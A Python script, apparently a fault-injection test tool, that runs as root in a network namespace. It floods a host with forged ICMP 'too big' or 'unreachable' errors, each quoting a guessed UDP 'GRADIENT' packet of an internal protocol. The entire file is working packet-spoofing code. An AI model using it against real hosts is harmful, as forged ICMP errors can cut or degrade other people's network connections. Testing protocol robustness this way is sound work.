"""Sends forged ICMP errors until it is killed; needs root in its network namespace.

    forge_icmp.py ERROR HOST SOURCE_PORTS TARGET TARGET_PORT

claims to HOST that packets from one of its SOURCE_PORTS to TARGET did not arrive, because they were
larger than 600 bytes (ERROR too-big; IPv6: 1,280) or nothing listens there (unreachable). The
quoted packet is a GRADIENT of job 1, incarnation 1, guessed from docs/inside/protocol without
having seen any packet.
"""

import ipaddress
import itertools
import socket
import struct
import sys
import time

# (type, code, the number in the second word), for IPv4 and IPv6
ERRORS = {
    "too-big": ((3, 4, 600), (2, 0, 1280)),
    "unreachable": ((3, 3, 0), (1, 4, 0)),
}


def gradient(sequence):
    version, kind, flags, words, job, incarnation, stream, values = 2, 0, 0, 1, 1, 1, 0, 350
    head = struct.pack("!BBBBIIHH", version, kind, flags, words, job, incarnation, stream, values)
    index, fingerprint, magnitude, blocks, hops = 0, 0, 0, 0x10, 16
    head += struct.pack("!QIIIBBBB", sequence, index, fingerprint, magnitude, blocks, hops, 0, 0)
    return head + struct.pack("!Q", 1) + bytes(440)


def quoted(host, source_port, target, target_port, payload):
    """The start of the packet that HOST supposedly sent."""
    udp = struct.pack("!HHHH", source_port, target_port, 1456, 0) + payload
    if host.version == 6:
        return struct.pack("!IHBB", 6 << 28, 1456, 17, 64) + host.packed + target.packed + udp
    ip = struct.pack("!BBHHHBBH", 0x45, 0, 1476, 0, 0x4000, 64, 17, 0)
    return ip + host.packed + target.packed + udp


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total > 0xFFFF:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def message(error, host, packet):
    kind, code, number = ERRORS[error][host.version == 6]
    if host.version == 6:
        return struct.pack("!BBHI", kind, code, 0, number) + packet  # the kernel adds the checksum
    body = struct.pack("!BBHI", kind, code, 0, number) + packet
    return body[:2] + struct.pack("!H", checksum(body)) + body[4:]


def main(error, host, source_ports, target, target_port):
    host, target = ipaddress.ip_address(host), ipaddress.ip_address(target)
    family, protocol = (
        (socket.AF_INET6, socket.IPPROTO_ICMPV6)
        if host.version == 6
        else (socket.AF_INET, socket.IPPROTO_ICMP)
    )
    with socket.socket(family, socket.SOCK_RAW, protocol) as raw:
        for sequence in itertools.count():
            for port in source_ports.split(","):
                payload = gradient(sequence % 1000)
                packet = quoted(host, int(port), target, int(target_port), payload)
                raw.sendto(message(error, host, packet), (str(host), 0))
            if sequence == 0:
                print("forging", flush=True)
            time.sleep(0.001)


if __name__ == "__main__":
    main(*sys.argv[1:])
